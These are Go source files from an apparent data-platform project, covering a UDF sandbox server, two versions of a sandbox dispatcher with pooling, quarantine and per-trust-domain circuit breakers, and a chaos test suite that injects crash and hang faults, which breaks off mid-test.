			time.Sleep(f.Delay)
		case faults.KindError:
			return sandboxResp{err: f.Err.Error()}
		}
	}
	data, errStr := serveRequest(payload, programs, caps, fuel)
	return sandboxResp{data: data, err: errStr}
}

func serveRequest(payload []byte, programs map[string]*udf.Program, caps *udf.Capabilities, fuel int) ([]byte, string) {
	specs, args, err := decodeRequest(payload)
	if err != nil {
		return nil, err.Error()
	}
	outSchema := &types.Schema{Fields: make([]types.Field, len(specs))}
	builders := make([]*types.Builder, len(specs))
	compiled := make([]*udf.Program, len(specs))
	for i, spec := range specs {
		outSchema.Fields[i] = types.Field{Name: spec.Name, Kind: spec.ResultKind, Nullable: true}
		builders[i] = types.NewBuilder(spec.ResultKind, args.NumRows())
		p, ok := programs[spec.Body]
		if !ok {
			var cerr error
			p, cerr = udf.Compile(spec.Body)
			if cerr != nil {
				return nil, cerr.Error()
			}
			programs[spec.Body] = p
		}
		compiled[i] = p
	}
	n := args.NumRows()
	argEnv := make(map[string]types.Value, 4)
	for row := 0; row < n; row++ {
		for i, spec := range specs {
			clear(argEnv)
			for ai, col := range spec.ArgCols {
				argEnv[spec.ArgNames[ai]] = args.Cols[col].Value(row)
			}
			v, err := compiled[i].CallFuel(argEnv, caps, fuel)
			if err != nil {
				return nil, fmt.Sprintf("udf %s at row %d: %v", spec.Name, row, err)
			}
			if v.Null {
				builders[i].AppendNull()
				continue
			}
			cast, err := v.Cast(spec.ResultKind)
			if err != nil {
				return nil, fmt.Sprintf("udf %s at row %d: result %v not a %s", spec.Name, row, v, spec.ResultKind)
			}
			builders[i].Append(cast)
		}
	}
	cols := make([]*types.Column, len(builders))
	for i, b := range builders {
		cols[i] = b.Build()
	}
	out, err := arrowipc.EncodeBatch(types.MustBatch(outSchema, cols))
	if err != nil {
		return nil, err.Error()
	}
	return out, ""
}
