package sandbox

import (
	"context"
	"errors"
	"fmt"
	"math/rand"
	"sync"
	"time"

	"lakeguard/internal/audit"
	"lakeguard/internal/faults"
	"lakeguard/internal/telemetry"
)

// Factory provisions sandboxes; the cluster manager implements it.
type Factory interface {
	// CreateSandbox provisions a fresh sandbox for one trust domain. The
	// context bounds provisioning (cold start included).
	CreateSandbox(ctx context.Context, trustDomain string) (*Sandbox, error)
}

// ResourceFactory is implemented by factories that can provision sandboxes
// in specialized execution environments (GPU hosts, high-memory pools —
// paper §3.3: "route these requests to specialized execution environments
// outside of the cluster").
type ResourceFactory interface {
	Factory
	// CreateSandboxResources provisions a sandbox in the named resource
	// pool ("" = the standard pool).
	CreateSandboxResources(ctx context.Context, trustDomain, resources string) (*Sandbox, error)
}

// Evictor is implemented by factories that track sandbox placement (the
// cluster manager): the dispatcher calls it when quarantining a poisoned
// sandbox so the host slot is reclaimed.
type Evictor interface {
	EvictSandbox(sb *Sandbox)
}

// FactoryFunc adapts a function to Factory.
type FactoryFunc func(ctx context.Context, trustDomain string) (*Sandbox, error)

// CreateSandbox implements Factory.
func (f FactoryFunc) CreateSandbox(ctx context.Context, trustDomain string) (*Sandbox, error) {
	return f(ctx, trustDomain)
}

// ErrDomainTripped is returned while a trust domain's circuit breaker is
// open: after CircuitThreshold consecutive sandbox crashes, further
// provisioning for that domain is refused until the cooldown elapses. Other
// domains are unaffected (per-domain failure containment).
var ErrDomainTripped = errors.New("sandbox: trust domain circuit breaker open")

// Supervisor defaults.
const (
	DefaultCircuitThreshold = 3
	DefaultCircuitCooldown  = 30 * time.Second
	DefaultProvisionRetries = 2
	DefaultRetryBaseDelay   = 5 * time.Millisecond
	DefaultRetryMaxDelay    = 500 * time.Millisecond
)

// SupervisorConfig tunes the dispatcher's failure handling. The zero value
// selects the defaults above; set a threshold/retry count negative to
// disable that mechanism.
type SupervisorConfig struct {
	// CircuitThreshold trips a trust domain's breaker after this many
	// consecutive crashes (< 0 disables the breaker).
	CircuitThreshold int
	// CircuitCooldown is how long a tripped domain stays refused before one
	// probe acquisition is allowed through (half-open).
	CircuitCooldown time.Duration
	// ProvisionRetries caps re-provisioning attempts after transient
	// provisioning failures (< 0 disables retries).
	ProvisionRetries int
	// RetryBaseDelay and RetryMaxDelay bound the jittered exponential
	// backoff between provisioning attempts.
	RetryBaseDelay time.Duration
	RetryMaxDelay  time.Duration
	// Audit receives SANDBOX_CRASH / SANDBOX_RETRY / CIRCUIT_OPEN events
	// (nil = unaudited).
	Audit *audit.Log
	// Compute labels audit events with the cluster's compute type.
	Compute string
	// Metrics, when set, publishes sandbox fleet counters (sandbox.cold_starts,
	// sandbox.reuses, sandbox.crashes, sandbox.retries, sandbox.circuit_trips)
	// and gauges (sandbox.active, sandbox.breakers_open) on the registry.
	Metrics *telemetry.Registry
	// Clock overrides the time source (tests).
	Clock func() time.Time
}

// Stats reports dispatcher activity.
type Stats struct {
	// ColdStarts counts sandbox provisions.
	ColdStarts int64
	// Reuses counts warm acquisitions.
	Reuses int64
	// Active counts currently provisioned sandboxes.
	Active int
	// Crashes counts poisoned sandboxes quarantined.
	Crashes int64
	// Retries counts provisioning retries after transient failures.
	Retries int64
	// Trips counts circuit-breaker openings.
	Trips int64
}

// breaker tracks one trust domain's crash streak.
type breaker struct {
	consecutive int
	open        bool
	openedAt    time.Time
}

// Dispatcher manages the sandboxes of one query process (paper §3.3): it
// pools warm sandboxes per (session, trust domain) so the cold start is paid
// once per session, and guarantees code from different trust domains never
// shares a sandbox. It is also the supervisor of the sandbox fleet:
// poisoned sandboxes are quarantined (closed, evicted from their host, never
// pooled), transient provisioning failures are retried with capped jittered
// backoff, and a per-trust-domain circuit breaker stops a crash-looping
// domain from burning the cluster.
type Dispatcher struct {
	factory Factory
	sup     SupervisorConfig
	met     dispatcherMetrics

	mu       sync.Mutex
	idle     map[string][]*Sandbox // key: session \x00 trustDomain \x00 resources
	breakers map[string]*breaker   // key: trustDomain
	stats    Stats
}

// dispatcherMetrics mirrors Stats onto a telemetry registry (all instruments
// nil and no-op when SupervisorConfig.Metrics is unset).
type dispatcherMetrics struct {
	coldStarts *telemetry.Counter
	reuses     *telemetry.Counter
	crashes    *telemetry.Counter
	retries    *telemetry.Counter
	trips      *telemetry.Counter
	active     *telemetry.Gauge
	breakers   *telemetry.Gauge
}

// NewDispatcher creates a dispatcher with default supervision.
func NewDispatcher(factory Factory) *Dispatcher {
	return NewSupervised(factory, SupervisorConfig{})
}

// NewSupervised creates a dispatcher with explicit supervision settings.
func NewSupervised(factory Factory, sup SupervisorConfig) *Dispatcher {
	if sup.CircuitThreshold == 0 {
		sup.CircuitThreshold = DefaultCircuitThreshold
	}
	if sup.CircuitCooldown <= 0 {
		sup.CircuitCooldown = DefaultCircuitCooldown
	}
	if sup.ProvisionRetries == 0 {
		sup.ProvisionRetries = DefaultProvisionRetries
	}
	if sup.RetryBaseDelay <= 0 {
		sup.RetryBaseDelay = DefaultRetryBaseDelay
	}
	if sup.RetryMaxDelay <= 0 {
		sup.RetryMaxDelay = DefaultRetryMaxDelay
	}
	if sup.Clock == nil {
		sup.Clock = time.Now
	}
	return &Dispatcher{
		factory: factory,
		sup:     sup,
		met: dispatcherMetrics{
			coldStarts: sup.Metrics.Counter("sandbox.cold_starts"),
			reuses:     sup.Metrics.Counter("sandbox.reuses"),
			crashes:    sup.Metrics.Counter("sandbox.crashes"),
			retries:    sup.Metrics.Counter("sandbox.retries"),
			trips:      sup.Metrics.Counter("sandbox.circuit_trips"),
			active:     sup.Metrics.Gauge("sandbox.active"),
			breakers:   sup.Metrics.Gauge("sandbox.breakers_open"),
		},
		idle:     map[string][]*Sandbox{},
		breakers: map[string]*breaker{},
	}
}

func poolKey(session, trustDomain, resources string) string {
	return session + "\x00" + trustDomain + "\x00" + resources
}

// Acquire returns a standard-pool sandbox for the given session and trust
// domain, reusing a warm one when available. The caller must Release it.
func (d *Dispatcher) Acquire(session, trustDomain string) (*Sandbox, error) {
	return d.AcquireResources(context.Background(), session, trustDomain, "")
}

// AcquireResources is Acquire with a context bounding provisioning and a
// resource-pool requirement ("gpu", "highmem", ...). Sandboxes never migrate
// between pools: the pool is part of the warm-reuse key.
func (d *Dispatcher) AcquireResources(ctx context.Context, session, trustDomain, resources string) (*Sandbox, error) {
	if err := d.admitDomain(trustDomain); err != nil {
		return nil, err
	}
	key := poolKey(session, trustDomain, resources)
	d.mu.Lock()
	for {
		pool := d.idle[key]
		if len(pool) == 0 {
			break
		}
		sb := pool[len(pool)-1]
		d.idle[key] = pool[:len(pool)-1]
		if sb.Poisoned() {
			// Defensive: a sandbox poisoned while pooled is quarantined, not
			// handed out.
			d.mu.Unlock()
			d.quarantine(session, sb)
			d.mu.Lock()
			continue
		}
		d.stats.Reuses++
		d.mu.Unlock()
		d.met.reuses.Inc()
		return sb, nil
	}
	d.mu.Unlock()

	// Provision outside the lock: cold starts are slow by design.
	sb, err := d.provision(ctx, trustDomain, resources)
	if err != nil {
		return nil, err
	}
	d.mu.Lock()
	d.stats.ColdStarts++
	d.stats.Active++
	d.mu.Unlock()
	d.met.coldStarts.Inc()
	d.met.active.Add(1)
	return sb, nil
}

// provision creates a sandbox, retrying transient failures with capped
// exponential backoff plus full jitter.
func (d *Dispatcher) provision(ctx context.Context, trustDomain, resources string) (*Sandbox, error) {
	create := func() (*Sandbox, error) {
		if resources == "" {
			return d.factory.CreateSandbox(ctx, trustDomain)
		}
		if rf, ok := d.factory.(ResourceFactory); ok {
			return rf.CreateSandboxResources(ctx, trustDomain, resources)
		}
		return nil, fmt.Errorf("dispatcher: user code requires resources %q but this cluster has no specialized pools", resources)
	}
	var err error
	for attempt := 0; ; attempt++ {
		var sb *Sandbox
		sb, err = create()
		if err == nil {
			return sb, nil
		}
		if attempt >= d.sup.ProvisionRetries || !faults.IsTransient(err) {
			break
		}
		d.mu.Lock()
		d.stats.Retries++
		d.mu.Unlock()
		d.met.retries.Inc()
		d.audit(audit.Event{
			User: trustDomain, Action: "SANDBOX_RETRY",
			Securable: "domain:" + trustDomain, Decision: audit.DecisionAllow,
			Reason:  fmt.Sprintf("provisioning attempt %d failed transiently: %v", attempt+1, err),
			TraceID: telemetry.TraceIDFrom(ctx),
		})
		t := time.NewTimer(backoffDelay(d.sup.RetryBaseDelay, d.sup.RetryMaxDelay, attempt))
		select {
		case <-t.C:
		case <-ctx.Done():
			t.Stop()
			return nil, fmt.Errorf("dispatcher: provisioning for %q abandoned: %w", trustDomain, ctx.Err())
		}
		t.Stop()
	}
	return nil, fmt.Errorf("dispatcher: provisioning sandbox for %q (resources %q): %w", trustDomain, resources, err)
}

// backoffDelay is capped exponential backoff with full jitter, so herds of
// retrying queries do not resynchronize on the recovering resource.
func backoffDelay(base, max time.Duration, attempt int) time.Duration {
	d := base << uint(attempt)
	if d <= 0 || d > max {
		d = max
	}
	return d/2 + time.Duration(rand.Int63n(int64(d/2)+1))
}

// admitDomain enforces the per-trust-domain circuit breaker.
func (d *Dispatcher) admitDomain(trustDomain string) error {
	if d.sup.CircuitThreshold < 0 {
		return nil
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	b := d.breakers[trustDomain]
	if b == nil || !b.open {
		return nil
	}
	if d.sup.Clock().Sub(b.openedAt) >= d.sup.CircuitCooldown {
		// Half-open: let one probe through; a single further crash re-trips
		// immediately, a healthy release resets the streak.
		b.open = false
		b.consecutive = d.sup.CircuitThreshold - 1
		d.met.breakers.Add(-1)
		return nil
	}
	return fmt.Errorf("%w: domain %q (%d consecutive crashes)", ErrDomainTripped, trustDomain, b.consecutive)
}

// Release returns a healthy sandbox to the warm pool of its
// session/domain/pool; a poisoned one is quarantined instead.
func (d *Dispatcher) Release(session string, sb *Sandbox) {
	if sb.Poisoned() {
		d.quarantine(session, sb)
		return
	}
	key := poolKey(session, sb.TrustDomain, sb.Resources)
	d.mu.Lock()
	if b := d.breakers[sb.TrustDomain]; b != nil && !b.open {
		// A successful crossing ends the domain's crash streak.
		b.consecutive = 0
	}
	d.idle[key] = append(d.idle[key], sb)
	d.mu.Unlock()
}

// quarantine destroys a poisoned sandbox: close it, reclaim its host slot,
// record the crash against the domain's breaker, and emit audit events.
func (d *Dispatcher) quarantine(session string, sb *Sandbox) {
	reason := sb.PoisonReason()
	sb.Close()
	if ev, ok := d.factory.(Evictor); ok {
		ev.EvictSandbox(sb)
	}
	d.mu.Lock()
	d.stats.Crashes++
	d.stats.Active--
	tripped := false
	b := d.breakers[sb.TrustDomain]
	if b == nil {
		b = &breaker{}
		d.breakers[sb.TrustDomain] = b
	}
	b.consecutive++
	if d.sup.CircuitThreshold > 0 && b.consecutive >= d.sup.CircuitThreshold && !b.open {
		b.open = true
		b.openedAt = d.sup.Clock()
		d.stats.Trips++
		tripped = true
	}
	consecutive := b.consecutive
	d.mu.Unlock()
	d.met.crashes.Inc()
	d.met.active.Add(-1)
	// Quarantine has no request context; the sandbox remembers the trace of
	// its last crossing so the crash still joins a span tree.
	traceID := sb.LastTraceID()
	d.audit(audit.Event{
		User: sb.TrustDomain, SessionID: session, Action: "SANDBOX_CRASH",
		Securable: "sandbox:" + sb.ID, Decision: audit.DecisionDeny, Reason: reason,
		TraceID: traceID,
	})
	if tripped {
		d.met.trips.Inc()
		d.met.breakers.Add(1)
		d.audit(audit.Event{
			User: sb.TrustDomain, SessionID: session, Action: "CIRCUIT_OPEN",
			Securable: "domain:" + sb.TrustDomain, Decision: audit.DecisionDeny,
			Reason:  fmt.Sprintf("%d consecutive sandbox crashes in domain %q", consecutive, sb.TrustDomain),
			TraceID: traceID,
		})
	}
}

func (d *Dispatcher) audit(e audit.Event) {
	if d.sup.Audit == nil {
		return
	}
	e.Compute = d.sup.Compute
	d.sup.Audit.Record(e)
}

// OpenBreakers counts trust domains whose circuit breaker is currently open.
// A non-zero count marks the cluster unhealthy: the gateway's health sweep
// auto-drains clusters whose dispatcher reports open breakers.
func (d *Dispatcher) OpenBreakers() int {
	d.mu.Lock()
	defer d.mu.Unlock()
	n := 0
	for _, b := range d.breakers {
		if b.open {
			n++
		}
	}
	return n
}

// BreakerState reports a trust domain's crash streak and whether its breaker
// is open (diagnostics).
func (d *Dispatcher) BreakerState(trustDomain string) (consecutive int, open bool) {
	d.mu.Lock()
	defer d.mu.Unlock()
	b := d.breakers[trustDomain]
	if b == nil {
		return 0, false
	}
	return b.consecutive, b.open
}

// EndSession tears down all warm sandboxes of a session, reclaiming their
// host slots.
func (d *Dispatcher) EndSession(session string) {
	d.mu.Lock()
	var toClose []*Sandbox
	for key, pool := range d.idle {
		if len(key) > len(session) && key[:len(session)] == session && key[len(session)] == 0 {
			toClose = append(toClose, pool...)
			delete(d.idle, key)
		}
	}
	d.stats.Active -= len(toClose)
	d.mu.Unlock()
	d.met.active.Add(-int64(len(toClose)))
	ev, _ := d.factory.(Evictor)
	for _, sb := range toClose {
		sb.Close()
		if ev != nil {
			ev.EvictSandbox(sb)
		}
	}
}

// Stats returns a snapshot of dispatcher counters.
func (d *Dispatcher) Stats() Stats {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.stats
}
