package sandbox

import (
	"fmt"
	"sync"
)

// Factory provisions sandboxes; the cluster manager implements it.
type Factory interface {
	// CreateSandbox provisions a fresh sandbox for one trust domain.
	CreateSandbox(trustDomain string) (*Sandbox, error)
}

// ResourceFactory is implemented by factories that can provision sandboxes
// in specialized execution environments (GPU hosts, high-memory pools —
// paper §3.3: "route these requests to specialized execution environments
// outside of the cluster").
type ResourceFactory interface {
	Factory
	// CreateSandboxResources provisions a sandbox in the named resource
	// pool ("" = the standard pool).
	CreateSandboxResources(trustDomain, resources string) (*Sandbox, error)
}

// FactoryFunc adapts a function to Factory.
type FactoryFunc func(trustDomain string) (*Sandbox, error)

// CreateSandbox implements Factory.
func (f FactoryFunc) CreateSandbox(trustDomain string) (*Sandbox, error) { return f(trustDomain) }

// Stats reports dispatcher activity.
type Stats struct {
	// ColdStarts counts sandbox provisions.
	ColdStarts int64
	// Reuses counts warm acquisitions.
	Reuses int64
	// Active counts currently provisioned sandboxes.
	Active int
}

// Dispatcher manages the sandboxes of one query process (paper §3.3): it
// pools warm sandboxes per (session, trust domain) so the cold start is paid
// once per session, and guarantees code from different trust domains never
// shares a sandbox.
type Dispatcher struct {
	factory Factory

	mu    sync.Mutex
	idle  map[string][]*Sandbox // key: session \x00 trustDomain
	stats Stats
}

// NewDispatcher creates a dispatcher backed by a sandbox factory.
func NewDispatcher(factory Factory) *Dispatcher {
	return &Dispatcher{factory: factory, idle: map[string][]*Sandbox{}}
}

func poolKey(session, trustDomain, resources string) string {
	return session + "\x00" + trustDomain + "\x00" + resources
}

// Acquire returns a standard-pool sandbox for the given session and trust
// domain, reusing a warm one when available. The caller must Release it.
func (d *Dispatcher) Acquire(session, trustDomain string) (*Sandbox, error) {
	return d.AcquireResources(session, trustDomain, "")
}

// AcquireResources is Acquire with a resource-pool requirement ("gpu",
// "highmem", ...). Sandboxes never migrate between pools: the pool is part
// of the warm-reuse key.
func (d *Dispatcher) AcquireResources(session, trustDomain, resources string) (*Sandbox, error) {
	key := poolKey(session, trustDomain, resources)
	d.mu.Lock()
	if pool := d.idle[key]; len(pool) > 0 {
		sb := pool[len(pool)-1]
		d.idle[key] = pool[:len(pool)-1]
		d.stats.Reuses++
		d.mu.Unlock()
		return sb, nil
	}
	d.mu.Unlock()

	// Provision outside the lock: cold starts are slow by design.
	var sb *Sandbox
	var err error
	if resources == "" {
		sb, err = d.factory.CreateSandbox(trustDomain)
	} else if rf, ok := d.factory.(ResourceFactory); ok {
		sb, err = rf.CreateSandboxResources(trustDomain, resources)
	} else {
		return nil, fmt.Errorf("dispatcher: user code requires resources %q but this cluster has no specialized pools", resources)
	}
	if err != nil {
		return nil, fmt.Errorf("dispatcher: provisioning sandbox for %q (resources %q): %w", trustDomain, resources, err)
	}
	d.mu.Lock()
	d.stats.ColdStarts++
	d.stats.Active++
	d.mu.Unlock()
	return sb, nil
}

// Release returns a sandbox to the warm pool of its session/domain/pool.
func (d *Dispatcher) Release(session string, sb *Sandbox) {
	key := poolKey(session, sb.TrustDomain, sb.Resources)
	d.mu.Lock()
	d.idle[key] = append(d.idle[key], sb)
	d.mu.Unlock()
}

// EndSession tears down all warm sandboxes of a session.
func (d *Dispatcher) EndSession(session string) {
	d.mu.Lock()
	var toClose []*Sandbox
	for key, pool := range d.idle {
		if len(key) > len(session) && key[:len(session)] == session && key[len(session)] == 0 {
			toClose = append(toClose, pool...)
			delete(d.idle, key)
		}
	}
	d.stats.Active -= len(toClose)
	d.mu.Unlock()
	for _, sb := range toClose {
		sb.Close()
	}
}

// Stats returns a snapshot of dispatcher counters.
func (d *Dispatcher) Stats() Stats {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.stats
}
