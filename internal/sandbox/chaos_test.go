package sandbox

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"lakeguard/internal/audit"
	"lakeguard/internal/faults"
)

// chaosSeed keeps the suite deterministic; CI overrides via FAULTS_SEED.
func chaosSeed() int64 { return faults.SeedFromEnv(1) }

func TestChaosCrashReturnsStructuredError(t *testing.T) {
	inj := faults.New(chaosSeed()).Add(faults.Rule{Site: faults.SiteSandboxInterpret, Kind: faults.KindCrash, Times: 1})
	sb := New("alice", Config{Faults: inj})
	defer sb.Close()

	_, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(5)})
	var crash *SandboxCrashError
	if !errors.As(err, &crash) {
		t.Fatalf("err = %v, want SandboxCrashError", err)
	}
	if crash.Timeout {
		t.Error("crash misreported as timeout")
	}
	if crash.TrustDomain != "alice" || crash.SandboxID != sb.ID {
		t.Errorf("crash attribution = %+v", crash)
	}
	if !sb.Poisoned() {
		t.Error("crashed sandbox not poisoned")
	}
	if !strings.Contains(sb.PoisonReason(), "crash") {
		t.Errorf("poison reason = %q", sb.PoisonReason())
	}
	// A poisoned sandbox refuses further crossings instead of hanging on a
	// dead interpreter.
	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); !errors.Is(err, ErrSandboxPoisoned) {
		t.Errorf("second Execute = %v, want ErrSandboxPoisoned", err)
	}
}

func TestChaosHangKilledByExecTimeout(t *testing.T) {
	inj := faults.New(chaosSeed()).Add(faults.Rule{Site: faults.SiteSandboxInterpret, Kind: faults.KindHang, Times: 1})
	sb := New("alice", Config{Faults: inj, ExecTimeout: 30 * time.Millisecond})
	defer sb.Close()

	start := time.Now()
	_, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)})
	var crash *SandboxCrashError
	if !errors.As(err, &crash) || !crash.Timeout {
		t.Fatalf("err = %v, want timeout SandboxCrashError", err)
	}
	if elapsed := time.Since(start); elapsed > 2*time.Second {
		t.Errorf("hung crossing took %v, supervision failed", elapsed)
	}
	if !sb.Poisoned() {
		t.Error("timed-out sandbox not poisoned")
	}
}

func TestChaosInjectedErrorKeepsSandboxHealthy(t *testing.T) {
	// KindError models failing user code, not a dying container: the sandbox
	// survives and serves the next request.
	inj := faults.New(chaosSeed()).Add(faults.Rule{Site: faults.SiteSandboxInterpret, Kind: faults.KindError, Times: 1})
	sb := New("alice", Config{Faults: inj})
	defer sb.Close()

	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); err == nil {
		t.Fatal("injected error did not surface")
	}
	if sb.Poisoned() {
		t.Error("error response must not poison the sandbox")
	}
	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); err != nil {
		t.Fatalf("sandbox dead after injected user error: %v", err)
	}
}

func TestChaosContextCancelBeforeSendIsClean(t *testing.T) {
	sb := New("alice", Config{})
	defer sb.Close()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := sb.Execute(ctx, &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v", err)
	}
	if sb.Poisoned() {
		t.Error("pre-send cancellation must not poison the sandbox")
	}
	// The sandbox still works.
	if _, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); err != nil {
		t.Fatal(err)
	}
}

func TestChaosContextCancelInFlightPoisons(t *testing.T) {
	inj := faults.New(chaosSeed()).Add(faults.Rule{Site: faults.SiteSandboxInterpret, Kind: faults.KindHang, Times: 1})
	sb := New("alice", Config{Faults: inj})
	defer sb.Close()
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		time.Sleep(20 * time.Millisecond)
		cancel()
	}()
	if _, err := sb.Execute(ctx, &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)}); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v", err)
	}
	// The request crossed the boundary before being abandoned: the IPC pipe
	// is unsynchronizable, so the sandbox must be destroyed.
	if !sb.Poisoned() {
		t.Error("abandoned in-flight request must poison the sandbox")
	}
}

func TestChaosCloseDuringInFlightExecute(t *testing.T) {
	inj := faults.New(chaosSeed()).Add(faults.Rule{Site: faults.SiteSandboxInterpret, Kind: faults.KindHang, Times: 1})
	sb := New("alice", Config{Faults: inj})
	errC := make(chan error, 1)
	go func() {
		_, err := sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)})
		errC <- err
	}()
	time.Sleep(20 * time.Millisecond)
	sb.Close()
	select {
	case err := <-errC:
		if !errors.Is(err, ErrSandboxClosed) {
			t.Fatalf("err = %v, want ErrSandboxClosed", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Execute hung past Close: supervision failed")
	}
}

// crashingFactory provisions plain sandboxes whose interpreter crashes on
// every request, and records evictions.
type crashingFactory struct {
	mu       sync.Mutex
	created  int
	evicted  []string
	coldFail int // fail this many leading CreateSandbox calls transiently
	seed     int64
}

func (f *crashingFactory) CreateSandbox(ctx context.Context, trustDomain string) (*Sandbox, error) {
	f.mu.Lock()
	f.created++
	fail := f.coldFail > 0
	if fail {
		f.coldFail--
	}
	f.mu.Unlock()
	if fail {
		return nil, fmt.Errorf("%w: simulated provisioning blip", faults.ErrInjected)
	}
	inj := faults.New(f.seed).Add(faults.Rule{Site: faults.SiteSandboxInterpret, Kind: faults.KindCrash})
	return NewContext(ctx, trustDomain, Config{Faults: inj})
}

func (f *crashingFactory) EvictSandbox(sb *Sandbox) {
	f.mu.Lock()
	f.evicted = append(f.evicted, sb.ID)
	f.mu.Unlock()
}

func (f *crashingFactory) stats() (created int, evicted []string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.created, append([]string(nil), f.evicted...)
}

// crashOnce makes one crossing that is expected to crash.
func crashOnce(t *testing.T, d *Dispatcher, session, domain string) *Sandbox {
	t.Helper()
	sb, err := d.AcquireResources(context.Background(), session, domain, "")
	if err != nil {
		t.Fatalf("acquire: %v", err)
	}
	_, err = sb.Execute(context.Background(), &Request{Specs: []UDFSpec{sumSpec()}, Args: argBatch(1)})
	var crash *SandboxCrashError
	if !errors.As(err, &crash) {
		t.Fatalf("Execute = %v, want SandboxCrashError", err)
	}
	d.Release(session, sb)
	return sb
}

func TestChaosDispatcherQuarantinesAndReprovisions(t *testing.T) {
	f := &crashingFactory{seed: chaosSeed()}
	log := audit.NewLog()
	d := NewSupervised(f, SupervisorConfig{CircuitThreshold: -1, Audit: log, Compute: "STANDARD"})

	sb1 := crashOnce(t, d, "sess", "mallory")
	// The poisoned sandbox was quarantined: evicted from its host, never
	// pooled, and the next acquisition provisions a fresh one.
	_, evicted := f.stats()
	if len(evicted) != 1 || evicted[0] != sb1.ID {
		t.Fatalf("evicted = %v, want [%s]", evicted, sb1.ID)
	}
	sb2, err := d.Acquire("sess", "mallory")
	if err != nil {
		t.Fatal(err)
	}
	if sb2 == sb1 || sb2.ID == sb1.ID {
		t.Error("poisoned sandbox was reused")
	}
	st := d.Stats()
	if st.Crashes != 1 || st.ColdStarts != 2 || st.Active != 1 {
		t.Errorf("stats = %+v", st)
	}
	if n := log.Count(func(e audit.Event) bool { return e.Action == "SANDBOX_CRASH" }); n != 1 {
		t.Errorf("SANDBOX_CRASH events = %d", n)
	}
}

func TestChaosCircuitBreakerTripsAndRecovers(t *testing.T) {
	f := &crashingFactory{seed: chaosSeed()}
	log := audit.NewLog()
	now := time.Unix(1000, 0)
	clock := func() time.Time { return now }
	d := NewSupervised(f, SupervisorConfig{
		CircuitThreshold: 3, CircuitCooldown: time.Minute,
		Audit: log, Compute: "STANDARD", Clock: clock,
	})

	for i := 0; i < 3; i++ {
		crashOnce(t, d, "sess", "mallory")
	}
	if consecutive, open := d.BreakerState("mallory"); !open || consecutive != 3 {
		t.Fatalf("breaker = (%d, %v), want open after 3 crashes", consecutive, open)
	}
	if _, err := d.Acquire("sess", "mallory"); !errors.Is(err, ErrDomainTripped) {
		t.Fatalf("acquire on tripped domain = %v", err)
	}
	// Other trust domains are unaffected (per-domain containment).
	if _, err := d.Acquire("sess", "alice"); err != nil {
		t.Fatalf("healthy domain blocked by mallory's breaker: %v", err)
	}
	if n := log.Count(func(e audit.Event) bool { return e.Action == "CIRCUIT_OPEN" }); n != 1 {
		t.Errorf("CIRCUIT_OPEN events = %d", n)
	}

	// Half-open: after the cooldown one probe goes through; another crash
	// re-trips immediately.
	now = now.Add(2 * time.Minute)
	crashOnce(t, d, "sess", "mallory")
	if _, open := d.BreakerState("mallory"); !open {
		t.Error("breaker did not re-trip after half-open probe crashed")
	}
	if d.Stats().Trips != 2 {
		t.Errorf("trips = %d", d.Stats().Trips)
	}

	// A healthy probe resets the streak and closes the breaker for good.
	now = now.Add(2 * time.Minute)
	sb, err := d.Acquire("sess", "mallory")
	if err != nil {
		t.Fatalf("half-open probe refused: %v", err)
	}
	// Do not execute (it would crash); release healthy.
	d.Release("sess", sb)
	if consecutive, open := d.BreakerState("mallory"); open || consecutive != 0 {
		t.Errorf("breaker after healthy release = (%d, %v)", consecutive, open)
	}
}

func TestChaosProvisionRetriesTransientFaults(t *testing.T) {
	f := &crashingFactory{seed: chaosSeed(), coldFail: 2}
	log := audit.NewLog()
	d := NewSupervised(f, SupervisorConfig{
		ProvisionRetries: 2, RetryBaseDelay: time.Millisecond, RetryMaxDelay: 5 * time.Millisecond,
		Audit: log,
	})
	sb, err := d.Acquire("sess", "alice")
	if err != nil {
		t.Fatalf("provisioning did not recover: %v", err)
	}
	if sb == nil {
		t.Fatal("nil sandbox")
	}
	created, _ := f.stats()
	if created != 3 {
		t.Errorf("create attempts = %d, want 3", created)
	}
	if d.Stats().Retries != 2 {
		t.Errorf("retries = %d", d.Stats().Retries)
	}
	if n := log.Count(func(e audit.Event) bool { return e.Action == "SANDBOX_RETRY" }); n != 2 {
		t.Errorf("SANDBOX_RETRY events = %d", n)
	}
}

func TestChaosProvisionRetriesExhausted(t *testing.T) {
	f := &crashingFactory{seed: chaosSeed(), coldFail: 10}
	d := NewSupervised(f, SupervisorConfig{
		ProvisionRetries: 2, RetryBaseDelay: time.Millisecond, RetryMaxDelay: 5 * time.Millisecond,
	})
	if _, err := d.Acquire("sess", "alice"); !faults.IsTransient(err) {
		t.Fatalf("exhausted retries should surface the transient cause: %v", err)
	}
	created, _ := f.stats()
	if created != 3 { // 1 attempt + 2 retries
		t.Errorf("create attempts = %d, want 3", created)
	}
}

func TestChaosPoisonedSandboxNeverPooled(t *testing.T) {
	// A sandbox that turns out poisoned while sitting in the warm pool is
	// quarantined on acquisition, not handed out.
	var healthy *Sandbox
	f := FactoryFunc(func(ctx context.Context, domain string) (*Sandbox, error) {
		return NewContext(ctx, domain, Config{})
	})
	d := NewSupervised(f, SupervisorConfig{CircuitThreshold: -1})
	sb, err := d.Acquire("sess", "alice")
	if err != nil {
		t.Fatal(err)
	}
